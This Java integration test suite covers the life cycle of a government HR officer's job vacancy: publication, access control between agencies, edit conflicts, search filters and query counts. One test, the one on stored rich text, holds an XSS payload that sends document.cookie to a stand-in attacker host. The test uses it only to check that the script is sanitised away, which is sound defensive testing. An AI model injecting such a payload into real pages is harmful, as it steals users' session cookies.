package kg.gov.kuzmat.vacancy;

import jakarta.ejb.EJB;
import jakarta.validation.ConstraintViolationException;
import kg.gov.kuzmat.agency.Agency;
import kg.gov.kuzmat.agency.AgencyType;
import kg.gov.kuzmat.platform.ClockProducer;
import kg.gov.kuzmat.testing.AsHrOfficer;
import kg.gov.kuzmat.testing.AsOtherHrOfficer;
import kg.gov.kuzmat.testing.CallingAs;
import kg.gov.kuzmat.testing.KuzmatDeployment;
import kg.gov.kuzmat.testing.SqlStatements;
import kg.gov.kuzmat.testing.TestData;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

import java.time.Clock;
import java.time.LocalDate;

import static kg.gov.kuzmat.testing.Refusals.assertRefusedBecauseOf;
import static kg.gov.kuzmat.testing.Refusals.assertRefusedWith;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** An HR officer's vacancy through its life, as the service layer enforces it. */
@ExtendWith(ArquillianExtension.class)
class VacancyPublicationIT {

    @Deployment
    static WebArchive deployment() {
        return KuzmatDeployment.services();
    }

    @EJB
    private TestData testData;

    @EJB
    private VacancyDrafting drafting;

    @EJB
    private VacancyCatalogue catalogue;

    @EJB
    private CatalogueMaintenance maintenance;

    @EJB
    private SqlStatements sqlStatements;

    @EJB
    private AsHrOfficer hrOfficer;

    @EJB
    private AsOtherHrOfficer otherHrOfficer;

    private Agency agency;

    @BeforeEach
    void officersOfTwoAgencies() {
        agency = testData.agency();
        testData.hrOfficer(CallingAs.HR_OFFICER_EMAIL, agency);
        testData.hrOfficer(CallingAs.OTHER_HR_OFFICER_EMAIL, testData.agency());
    }

    private static VacancyContent content(String title, int daysToDeadline) {
        return SampleContent.withTitleAndDeadline(title, LocalDate.now().plusDays(daysToDeadline));
    }

    private Vacancy draft(String title) throws Exception {
        return hrOfficer.call(() -> drafting.createDraft(content(title, 20)));
    }

    private Vacancy published(String title) throws Exception {
        Vacancy draft = draft(title);
        return hrOfficer.call(() -> drafting.publish(draft.getId(), draft.getVersion()));
    }

    private VacancySearch byAgency(String query, boolean openOnly) {
        return new VacancySearch(query, agency.getCode(), null, null, null, null, null, openOnly, null, 0, 10);
    }

    @Test
    void aPublishedVacancyIsFoundInTheCatalogueAndADraftNever() throws Exception {
        String title = TestData.unique("Ведущий специалист");
        Vacancy draft = draft(title);
        assertEquals(agency.getCode(), draft.getAgency().getCode(), "drafted for the officer's own agency");
        assertEquals(0, catalogue.search(byAgency(null, false)).total(), "a draft is not public");
        assertTrue(catalogue.findPublic(draft.getId()).isEmpty());

        hrOfficer.call(() -> drafting.publish(draft.getId(), draft.getVersion()));

        SearchResult<VacancySummary> found = catalogue.search(byAgency(null, true));
        assertEquals(1, found.total());
        assertEquals(title, found.items().get(0).title());
        assertEquals(agency.getName(), found.items().get(0).agencyName());
        assertTrue(catalogue.findPublic(draft.getId()).isPresent());
    }

    @Test
    void anOfficerOfAnotherAgencyCanNeitherSeeNorChangeTheVacancy() throws Exception {
        Vacancy vacancy = published("Специалист");
        long id = vacancy.getId();
        long version = vacancy.getVersion();

        assertRefusedWith("vacancy.notFound", () -> otherHrOfficer.call(() -> drafting.findOwn(id)));
        assertRefusedWith("vacancy.notFound", () -> otherHrOfficer.call(() -> drafting.revise(id, version, content("Чужая", 30))));
        assertRefusedWith("vacancy.notFound", () -> otherHrOfficer.call(() -> drafting.cancel(id, version, "Чужая")));
        assertTrue(otherHrOfficer.call(() -> drafting.listOwn()).stream().noneMatch(v -> v.getId() == id));
        assertEquals("Специалист", hrOfficer.call(() -> drafting.findOwn(id)).getTitle(), "nothing was changed");
    }

    @Test
    void theSecondOfTwoOfficersEditingTheSameVersionIsToldToReloadAndOverwritesNothing() throws Exception {
        Vacancy draft = draft("Специалист");
        long seenByBoth = draft.getVersion();

        hrOfficer.call(() -> drafting.revise(draft.getId(), seenByBoth, content("Главный специалист", 20)));
        assertRefusedWith("vacancy.edit.changedMeanwhile",
                () -> hrOfficer.call(() -> drafting.revise(draft.getId(), seenByBoth, content("Ведущий специалист", 20))));

        assertEquals("Главный специалист", hrOfficer.call(() -> drafting.findOwn(draft.getId())).getTitle());
    }

    @Test
    void editsAfterPublicationAreRecordedAndShownWithTheVacancy() throws Exception {
        Vacancy vacancy = published("Специалист");

        hrOfficer.call(() -> drafting.revise(vacancy.getId(), vacancy.getVersion(),
                SampleContent.withSalary(content("Специалист", 25), 32000, 38000)));

        Vacancy shown = catalogue.findPublic(vacancy.getId()).orElseThrow();
        assertEquals(3, shown.getChanges().size(), "deadline, salary minimum and maximum");
        assertTrue(shown.getChanges().stream().allMatch(change -> CallingAs.HR_OFFICER_EMAIL.equals(change.getChangedBy())));
    }

    @Test
    void aCancelledVacancyShowsItsReasonAndLeavesTheOpenList() throws Exception {
        Vacancy vacancy = published("Специалист");

        hrOfficer.call(() -> drafting.cancel(vacancy.getId(), vacancy.getVersion(), "Штатная единица сокращена"));

        assertEquals(0, catalogue.search(byAgency(null, true)).total());
        assertEquals(1, catalogue.search(byAgency(null, false)).total());
        Vacancy shown = catalogue.findPublic(vacancy.getId()).orElseThrow();
        assertEquals(VacancyStatus.CANCELLED, shown.getStatus());
        assertEquals("Штатная единица сокращена", shown.getCancellationReason());
    }

    @Test
    void invalidContentIsRefusedByValidationAndNothingIsStored() throws Exception {
        VacancyContent noTitle = content(" ", 20);
        assertRefusedBecauseOf(ConstraintViolationException.class, () -> hrOfficer.call(() -> drafting.createDraft(noTitle)));

        assertRefusedWith("vacancy.salary.minAboveMax",
                () -> hrOfficer.call(() -> drafting.createDraft(SampleContent.withSalary(content("Специалист", 20), 40000, 30000))));
        assertTrue(hrOfficer.call(() -> drafting.listOwn()).isEmpty());
    }

    @Test
    void aDeadlineShorterThanTheMinimumPublicationPeriodCannotBePublished() throws Exception {
        Vacancy draft = hrOfficer.call(() -> drafting.createDraft(content("Специалист", 3)));

        assertRefusedWith("vacancy.publish.deadlineTooSoon",
                () -> hrOfficer.call(() -> drafting.publish(draft.getId(), draft.getVersion())));
    }

    @Test
    void storedRichTextNeverCarriesAScript() throws Exception {
        VacancyContent hostile = SampleContent.withDuties(content("Специалист", 20),
                "<p>Обязанности<script>document.location='https://evil.example/'+document.cookie</script></p>");

        Vacancy saved = hrOfficer.call(() -> drafting.createDraft(hostile));

        assertEquals("<p>Обязанности</p>", hrOfficer.call(() -> drafting.findOwn(saved.getId())).getDuties());
    }

    @Test
    void theSearchFindsWordsByTheirBeginningInTitleAndDutiesWithFilters() throws Exception {
        String marker = "маркер" + TestData.unique("x").substring(2);
        published("Башкы адис " + marker);
        hrOfficer.call(() -> drafting.createDraft(content("Башкы адис " + marker, 20)));

        assertEquals(1, catalogue.search(byAgency("БАШКЫ", true)).total(), "case does not matter; drafts are not found");
        assertEquals(1, catalogue.search(byAgency("адис экспертиз", true)).total(), "duties are searched, by prefix");
        assertEquals(0, catalogue.search(byAgency("адис бухгалтер", true)).total(), "every word must match");
        VacancySearch municipalOnly = new VacancySearch(marker, null, AgencyType.MUNICIPAL,
                null, null, null, null, true, VacancySort.DEADLINE, 0, 10);
        assertEquals(0, catalogue.search(municipalOnly).total(), "the test agency is a state body");
        VacancySearch wellPaid = new VacancySearch(marker, null, null, null, PositionGroup.SENIOR, 36000,
                CompetitionType.OPEN, true, VacancySort.SALARY, 0, 10);
        assertEquals(1, catalogue.search(wellPaid).total());
        for (VacancySort sort : VacancySort.values()) {
            // Each order reads its own index and checks the other filters row by row.
            VacancySearch stateBodies = new VacancySearch(marker, null, AgencyType.STATE, null, null, 36000,
                    null, true, sort, 0, 10);
            VacancySearch tooWellPaid = new VacancySearch(marker, agency.getCode(), null, null, null, 10_000_000,
                    null, true, sort, 0, 10);
            VacancySearch otherAgency = new VacancySearch(marker, "NO-SUCH-AGENCY", null, null, null, null,
                    null, true, sort, 0, 10);
            assertEquals(1, catalogue.search(stateBodies).total(), sort.name());
            assertEquals(0, catalogue.search(tooWellPaid).total(), sort.name());
            assertEquals(0, catalogue.search(otherAgency).total(), sort.name());
        }
    }

    @Test
    void aVacancyPastItsDeadlineReadsClosedAtOnceAndIsClosedByTheNightlyRun() throws Exception {
        Vacancy vacancy = published("Специалист");
        testData.moveDeadlineToYesterday(vacancy.getId());

        assertEquals(0, catalogue.search(byAgency(null, true)).total(), "not open any more, even before the nightly run");
        assertEquals(VacancyStatus.CLOSED, catalogue.findPublic(vacancy.getId()).orElseThrow().statusAsOf(Clock.system(ClockProducer.BISHKEK)));

        maintenance.closeOverdue();

        assertEquals(VacancyStatus.CLOSED, catalogue.findPublic(vacancy.getId()).orElseThrow().getStatus());
        assertEquals(1, catalogue.search(byAgency(null, false)).total(), "a closed vacancy stays readable");
    }

    @Test
    void aCommonWordIsFoundAsExactlyAsARareOne() throws Exception {
        String common = "частое" + TestData.unique("x").substring(2);
        int many = VacancyCatalogue.RARE_WORD_VACANCIES + 1;
        testData.publishManyWithWord(agency, common, many);
        String rare = "редкое" + TestData.unique("x").substring(2);
        published(common + " " + rare);

        SearchResult<VacancySummary> all = catalogue.search(byAgency(common, true));
        assertEquals(many + 1, all.total(), "every match is counted");
        assertEquals(10, all.items().size());
        assertEquals(1, catalogue.search(byAgency(common + " " + rare, true)).total(), "a common and a rare word together");
    }

    @Test
    void aPageOfResultsAndAVacancyCostAFixedNumberOfQueriesWhateverTheirSize() throws Exception {
        VacancySearch tenRows = new VacancySearch(null, null, null, null, null, null, null, false, VacancySort.NEWEST, 0, 10);
        VacancySearch hundredRows = new VacancySearch(null, null, null, null, null, null, null, false, VacancySort.NEWEST, 0, 100);
        long id = catalogue.search(tenRows).items().get(0).id();

        int forTen = sqlStatements.countDuring(() -> catalogue.search(tenRows));
        int forHundred = sqlStatements.countDuring(() -> catalogue.search(hundredRows));
        int forOne = sqlStatements.countDuring(() -> catalogue.findPublic(id).orElseThrow().getChanges().size());

        assertEquals(3, forTen, "the page's ids, their rows and the count of matches");
        assertTrue(forHundred <= forTen, "no query per row (a first page that is not full needs no count)");
        assertEquals(1, forOne, "the vacancy with its agency and changes in one query");
    }

    @Test
    void pagesOfTheSearchNeverRepeatAVacancy() {
        VacancySearch first = new VacancySearch(null, null, null, null, null, null, null, false, VacancySort.DEADLINE, 0, 5);
        VacancySearch second = new VacancySearch(null, null, null, null, null, null, null, false, VacancySort.DEADLINE, 1, 5);

        var one = catalogue.search(first).items();
        var two = catalogue.search(second).items();

        assertEquals(5, one.size(), "the demo data alone publishes thirty vacancies");
        assertFalse(one.stream().anyMatch(two::contains));
    }
}
